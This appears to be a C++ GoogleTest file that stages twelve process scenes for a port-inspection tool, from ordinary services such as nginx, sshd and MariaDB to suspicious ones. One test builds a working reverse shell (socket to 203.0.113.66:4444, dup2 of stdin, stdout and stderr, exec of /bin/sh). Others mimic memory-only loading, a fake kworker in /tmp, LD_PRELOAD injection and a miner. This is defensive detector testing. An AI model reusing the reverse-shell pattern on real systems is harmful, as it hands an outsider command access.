// Twelve situations. How each was set up determines the correct answers to these questions: which
// program it is, whom it communicates with, what started it, what is conspicuous and why, and what
// to do next. The output of the program must contain these answers.
#include <fcntl.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <link.h>
#include <sys/mman.h>
#include <unistd.h>

#include <filesystem>

#include "scenes/stage.h"
#include "support/sockets/sockets.h"

namespace portexplorer::scenes {
namespace {

namespace fs = std::filesystem;
using namespace fixture;  // NOLINT(google-build-using-namespace): what these scenes are written in
using ::testing::Each;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

struct Answers {
  std::vector<std::string> who;
  std::vector<std::string> with_whom;
  std::vector<std::string> started_by;
  std::vector<std::string> what_stands_out;
  std::vector<std::string> next;
};

std::string named(const std::string& program, pid_t pid) {
  return program + " (" + std::to_string(pid) + ")";
}

class Scene : public ::testing::Test {
 protected:
  static void expect_answers(const ProgramOutput& output, const Answers& answers) {
    for (const auto* question : {&answers.who, &answers.with_whom, &answers.started_by,
                                 &answers.what_stands_out, &answers.next}) {
      EXPECT_THAT(*question, Not(IsEmpty()));
      for (const std::string& answer : *question) EXPECT_THAT(output.text, HasSubstr(answer));
    }
  }

  // Started by this test, unless a scene says otherwise.
  static std::string by_the_test() {
    return "It was started by " + named(program_invocation_short_name, getpid());
  }

  static void expect_harmless(const ProgramOutput& output) {
    EXPECT_THAT(output.standing_out, IsEmpty());
    EXPECT_THAT(output.not_run, IsEmpty());
    EXPECT_THAT(output.findings, Not(IsEmpty()));
    EXPECT_THAT(output.findings, Each("nothing"));
    EXPECT_THAT(output.text, HasSubstr("None of 14 checks stands out."));
    EXPECT_THAT(output.text, HasSubstr("Nothing that was seen asks you to do anything."));
  }

  Stage stage_;
};

constexpr const char* kHarmless = "None of 14 checks stands out.";
constexpr const char* kNothingToDo = "Nothing that was seen asks you to do anything.";
constexpr const char* kNoReport =
    "Any of this can be harmless; it is a reason to look, and no proof.";

TEST_F(Scene, AWebServer) {
  stage_.install("nginx", "/usr/sbin/nginx");
  UniqueFd web = listener("0.0.0.0", 80);
  const UniqueFd visitor = bound_socket(SOCK_STREAM, "203.0.113.5", 51000);
  connect_to(visitor.get(), "192.0.2.10", 80);
  const auto sockets = [&](bool with_visitor) {
    Sockets kept;
    kept.emplace_back(dup(web.get()));
    if (with_visitor) kept.push_back(accepted(web.get()));
    return kept;
  };
  const pid_t worker = stage_.start_pair(
      [&](const Conversation& c) {
        play(c, {"/usr/sbin/nginx", {"nginx", "-"}, {}}, sockets(false));
      },
      [&](const Conversation& c) {
        play(c, {"/usr/sbin/nginx", {"nginx", "-"}, {}}, sockets(true));
      });
  web.reset();
  const pid_t master = stage_.parent_of_pair();
  const ProgramOutput output = Stage::inspect(worker, "80/tcp");
  expect_harmless(output);
  expect_answers(output, {.who = {named("nginx", worker), "It came with the package nginx",
                                  "Here, port 80/tcp belongs to nginx"},
                          .with_whom = {"One connection is open, from 203.0.113.5."},
                          .started_by = {named("nginx", master) +
                                         " runs the same program and started it as a helper"},
                          .what_stands_out = {kHarmless},
                          .next = {kNothingToDo}});
  const ProgramOutput of_master = Stage::inspect(master, "");
  expect_harmless(of_master);
  expect_answers(
      of_master,
      {.who = {named("nginx", master)},
       .with_whom =
           {"It waits for others on 80/tcp, on all addresses; a firewall may still block."},
       .started_by = {by_the_test()},
       .what_stands_out = {kHarmless},
       .next = {kNothingToDo}});
}

TEST_F(Scene, ABrowser) {
  stage_.install("google-chrome-stable", "/opt/google/chrome/chrome");
  const UniqueFd one = listener("198.51.100.7", 443);
  const UniqueFd other = listener("198.51.100.8", 443);
  const pid_t pid = stage_.start([&](Conversation& c) {
    Sockets sockets;
    for (int i = 0; i < 3; ++i)
      sockets.push_back(connected_socket(SOCK_STREAM, "198.51.100.7", 443));
    sockets.push_back(connected_socket(SOCK_STREAM, "198.51.100.8", 443));
    play(c, {"/opt/google/chrome/chrome", {"chrome", "-"}, {}}, sockets);
  });
  const ProgramOutput output = Stage::inspect(pid, "443/tcp");
  expect_harmless(output);
  expect_answers(output, {.who = {named("chrome", pid),
                                  "It came with the package google-chrome-stable", "443/tcp"},
                          .with_whom = {"4 connections are open, with 198.51.100.7, 198.51.100.8."},
                          .started_by = {by_the_test()},
                          .what_stands_out = {kHarmless},
                          .next = {kNothingToDo}});
}

TEST_F(Scene, Ssh) {
  stage_.install("openssh-server", "/usr/sbin/sshd");
  UniqueFd waiting = listener("0.0.0.0", 22);
  const UniqueFd visitor = bound_socket(SOCK_STREAM, "203.0.113.5", 51000);
  connect_to(visitor.get(), "192.0.2.10", 22);
  const pid_t pid = stage_.start([&](Conversation& c) {
    Sockets sockets;
    sockets.emplace_back(dup(waiting.get()));
    sockets.push_back(accepted(waiting.get()));
    play(c, {"/usr/sbin/sshd", {"sshd", "-"}, {}}, sockets);
  });
  waiting.reset();
  const ProgramOutput output = Stage::inspect(pid, "22");
  expect_harmless(output);
  expect_answers(
      output,
      {.who = {named("sshd", pid), "It came with the package openssh-server",
               "Here, port 22/tcp belongs to sshd", "SSH"},
       .with_whom = {"It waits for others on 22/tcp, on all addresses; a firewall may still block.",
                     "One connection is open, from 203.0.113.5."},
       .started_by = {by_the_test()},
       .what_stands_out = {kHarmless},
       .next = {kNothingToDo}});
}

TEST_F(Scene, ANameServer) {
  stage_.install("dnsmasq-base", "/usr/sbin/dnsmasq");
  const pid_t pid = stage_.start([&](Conversation& c) {
    Sockets sockets;
    sockets.push_back(bound_socket(SOCK_DGRAM, "127.0.0.1", 53));
    sockets.push_back(listener("127.0.0.1", 53));
    play(c, {"/usr/sbin/dnsmasq", {"dnsmasq", "-"}, {}}, sockets);
  });
  const ProgramOutput output = Stage::inspect(pid, "53/udp");
  expect_harmless(output);
  expect_answers(output, {.who = {named("dnsmasq", pid), "It came with the package dnsmasq-base",
                                  "Here, port 53/udp belongs to dnsmasq", "DNS"},
                          .with_whom = {"for programs of this machine only.", "53/udp", "53/tcp",
                                        "It holds no open connection now."},
                          .started_by = {by_the_test()},
                          .what_stands_out = {kHarmless},
                          .next = {kNothingToDo}});
}

TEST_F(Scene, ADatabaseOnLoopback) {
  stage_.install("mariadb-server", "/usr/sbin/mariadbd");
  UniqueFd waiting = listener("127.0.0.1", 3306);
  const UniqueFd client = connected_socket(SOCK_STREAM, "127.0.0.1", 3306);
  const pid_t pid = stage_.start([&](Conversation& c) {
    Sockets sockets;
    sockets.emplace_back(dup(waiting.get()));
    sockets.push_back(accepted(waiting.get()));
    play(c, {"/usr/sbin/mariadbd", {"mariadbd", "-"}, {}}, sockets);
  });
  waiting.reset();
  const ProgramOutput output = Stage::inspect(pid, "3306");
  expect_harmless(output);
  EXPECT_THAT(output.text, Not(HasSubstr("on some addresses only")));
  expect_answers(output, {.who = {named("mariadbd", pid), "It came with the package mariadb-server",
                                  "3306/tcp", "MySQL"},
                          .with_whom = {"It waits on 3306/tcp for programs of this machine only.",
                                        "One connection is open, from 127.0.0.1."},
                          .started_by = {by_the_test()},
                          .what_stands_out = {kHarmless},
                          .next = {kNothingToDo}});
}

TEST_F(Scene, AnUpgradedDaemon) {
  stage_.install("cups-daemon", "/usr/sbin/cupsd");
  const pid_t pid = stage_.start([&](Conversation& c) {
    Sockets sockets;
    sockets.push_back(listener("127.0.0.1", 631));
    play(c, {"/usr/sbin/cupsd", {"cupsd", "-"}, {}}, sockets);
  });
  stage_.upgrade("cups-daemon", "/usr/sbin/cupsd");
  const ProgramOutput output = Stage::inspect(pid, "631");
  EXPECT_THAT(output.standing_out, IsEmpty());
  EXPECT_THAT(output.findings, ElementsAre("nothing"));
  EXPECT_THAT(output.not_run, ElementsAre("changed"))
      << "the file that it runs is gone, so there is nothing to compare";
  expect_answers(output, {.who = {named("cupsd", pid), "It came with the package cups-daemon",
                                  "631/tcp", "IPP"},
                          .with_whom = {"It waits on 631/tcp for programs of this machine only."},
                          .started_by = {by_the_test()},
                          .what_stands_out = {"None of 14 checks stands out; 1 could not run.",
                                              "An update has replaced its file, which is harmless"},
                          .next = {"it runs the older one until it is started anew"}});
}

TEST_F(Scene, AShellOnASocket) {
  const std::string shell = fs::canonical("/bin/sh");
  stage_.install("the-shell", shell);
  const UniqueFd waiting = listener("203.0.113.66", 4444);
  const pid_t pid = stage_.start([&](Conversation&) {
    const UniqueFd socket = connected_socket(SOCK_STREAM, "203.0.113.66", 4444);
    for (const int fd : {STDIN_FILENO, STDOUT_FILENO, STDERR_FILENO})
      check(dup2(socket.get(), fd), "dup2");
    execute(shell, {"sh"});
  });
  const ProgramOutput output = Stage::inspect(pid, "4444/tcp");
  EXPECT_THAT(output.standing_out, ElementsAre("shell_on_socket"));
  EXPECT_THAT(output.findings, ElementsAre("shell_on_socket"));
  const std::string name = fs::path(shell).filename();
  expect_answers(
      output,
      {.who = {named(name, pid), "4444/tcp", "Metasploit"},
       .with_whom = {"One connection is open, to 203.0.113.66."},
       .started_by = {by_the_test()},
       .what_stands_out =
           {"One of 14 checks stands out.",
            "It is a shell that takes its commands from the network: from 203.0.113.66 port 4444."},
       .next = {
           "If you do not know who is at the other end, end it: kill " + std::to_string(pid) + ".",
           kNoReport}});
}

TEST_F(Scene, AListenerFromADeletedFile) {
  stage_.install("updater", "/usr/sbin/updater");
  const pid_t pid = stage_.start([&](Conversation& c) {
    Sockets sockets;
    sockets.push_back(listener("0.0.0.0", 31337));
    play(c, {"/usr/sbin/updater", {"updater", "-"}, {}}, sockets);
  });
  fs::remove("/usr/sbin/updater");
  const ProgramOutput output = Stage::inspect(pid, "31337");
  EXPECT_THAT(output.standing_out, ElementsAre("deleted_executable"));
  EXPECT_THAT(output.findings, ElementsAre("deleted_executable"));
  expect_answers(
      output,
      {.who = {named("updater", pid), "Here, port 31337/tcp belongs to updater", "Back Orifice"},
       .with_whom = {"It waits for others on 31337/tcp, on all addresses",
                     "It holds no open connection now."},
       .started_by = {by_the_test()},
       .what_stands_out = {"Its file /usr/sbin/updater was deleted while it runs, and nothing "
                           "stands there any more."},
       .next = {"can still be copied from /proc/" + std::to_string(pid) + "/exe.", kNoReport}});
}

TEST_F(Scene, AListenerFromMemory) {
  const pid_t pid = stage_.start([&](Conversation& c) {
    const int memory = check(memfd_create("update", MFD_CLOEXEC), "memfd_create");
    const std::string program = read_file("/bin/cat");
    if (write(memory, program.data(), program.size()) != static_cast<ssize_t>(program.size()))
      fail_now("the memory is full");
    Sockets sockets;
    sockets.push_back(listener("0.0.0.0", 8081));
    play(c, {"/proc/self/fd/" + std::to_string(memory), {"update", "-"}, {}}, sockets);
  });
  const ProgramOutput output = Stage::inspect(pid, "8081");
  EXPECT_THAT(output.standing_out, ElementsAre("memory_only", "not_packaged"));
  EXPECT_THAT(output.findings, ElementsAre("memory_only,not_packaged"));
  expect_answers(
      output,
      {.who = {named("memfd:update", pid), "Here, port 8081/tcp belongs to memfd:update"},
       .with_whom = {"It waits for others on 8081/tcp, on all addresses"},
       .started_by = {by_the_test()},
       .what_stands_out = {"2 of 14 checks stand out; 1 could not run.",
                           "Its program never was a file: it is only in memory"},
       .next = {"Before you end it, keep a copy of it from /proc/" + std::to_string(pid) + "/exe.",
                kNoReport}});
}

TEST_F(Scene, AListenerFromTmp) {
  Stage::put("/tmp/.cache/kworker");
  const pid_t pid = stage_.start([&](Conversation& c) {
    Sockets sockets;
    sockets.push_back(listener("0.0.0.0", 9001));
    play(c, {"/tmp/.cache/kworker", {"kworker", "-"}, {}}, sockets);
  });
  const ProgramOutput output = Stage::inspect(pid, "9001/tcp");
  EXPECT_THAT(output.standing_out, ElementsAre("writable_place", "not_packaged"));
  EXPECT_THAT(output.findings, ElementsAre("writable_place,not_packaged"));
  expect_answers(output,
                 {.who = {named("kworker", pid), "/tmp/.cache/kworker",
                          "Here, port 9001/tcp belongs to kworker"},
                  .with_whom = {"It waits for others on 9001/tcp, on all addresses"},
                  .started_by = {by_the_test()},
                  .what_stands_out = {"It runs from /tmp, where everyone may put files; only their "
                                      "owners may replace them (sticky).",
                                      "No installed package has the file /tmp/.cache/kworker."},
                  .next = {"Look who may write there, and whether the program belongs there.",
                           "Ask who put it there.", kNoReport}});
}

TEST_F(Scene, AMiner) {
  stage_.install("xmrig", "/usr/sbin/xmrig");
  stage_.install("cron", "/usr/sbin/cron");
  const UniqueFd pool = listener("198.51.100.8", 3333);
  const pid_t pid = stage_.start_pair(
      [&](const Conversation& c) {
        play(c, {"/usr/sbin/cron", {"cron", "-"}, {}}, {});
      },
      [&](const Conversation& c) {
        Sockets sockets;
        sockets.push_back(connected_socket(SOCK_STREAM, "198.51.100.8", 3333));
        play(c, {"/usr/sbin/xmrig", {"xmrig", "-"}, {}}, sockets);
      });
  const ProgramOutput output = Stage::inspect(pid, "remote 3333/tcp");
  EXPECT_THAT(output.standing_out, ElementsAre("miners_port"));
  EXPECT_THAT(output.findings, ElementsAre("miners_port"));
  expect_answers(
      output,
      {.who = {named("xmrig", pid), "It came with the package xmrig",
               "XMRig / Stratum mining pools miner"},
       .with_whom = {"One connection is open, to 198.51.100.8."},
       .started_by = {"It was started by " + named("cron", stage_.parent_of_pair())},
       .what_stands_out = {"It talks to 198.51.100.8 port 3333, which miners of digital money use. "
                           "A port proves nothing."},
       .next = {"Look how busy the processor is, and ask who wanted this program.", kNoReport}});
}

// Returns any shared library that this test has loaded.
std::string any_library() {
  std::string found;
  dl_iterate_phdr(
      [](dl_phdr_info* info, std::size_t, void* result) {
        const std::string name = info->dlpi_name == nullptr ? "" : info->dlpi_name;
        if (name.find("libm.so") != std::string::npos) *static_cast<std::string*>(result) = name;
        return 0;
      },
      &found);
  return found;
}

TEST_F(Scene, AForeignLibraryIsPreloaded) {
  stage_.install("at", "/usr/sbin/atd");
  fs::create_directories("/opt/.cache");
  fs::copy_file(any_library(), "/opt/.cache/libhide.so");
  const pid_t pid = stage_.start([&](Conversation& c) {
    Sockets sockets;
    sockets.push_back(listener("0.0.0.0", 2525));
    play(c, {"/usr/sbin/atd", {"atd", "-"}, {"LD_PRELOAD=/opt/.cache/libhide.so"}}, sockets);
  });
  const ProgramOutput output = Stage::inspect(pid, "2525");
  EXPECT_THAT(output.standing_out, ElementsAre("ld_preload"));
  EXPECT_THAT(output.findings, ElementsAre("ld_preload"));
  expect_answers(
      output,
      {.who = {named("atd", pid), "It came with the package at",
               "Here, port 2525/tcp belongs to atd"},
       .with_whom = {"It waits for others on 2525/tcp, on all addresses"},
       .started_by = {by_the_test()},
       .what_stands_out =
           {"Its environment loads foreign code into it: LD_PRELOAD=/opt/.cache/libhide.so."},
       .next = {"Look where that file came from, and who set the variable.", kNoReport}});
}

}  // namespace
}  // namespace portexplorer::scenes
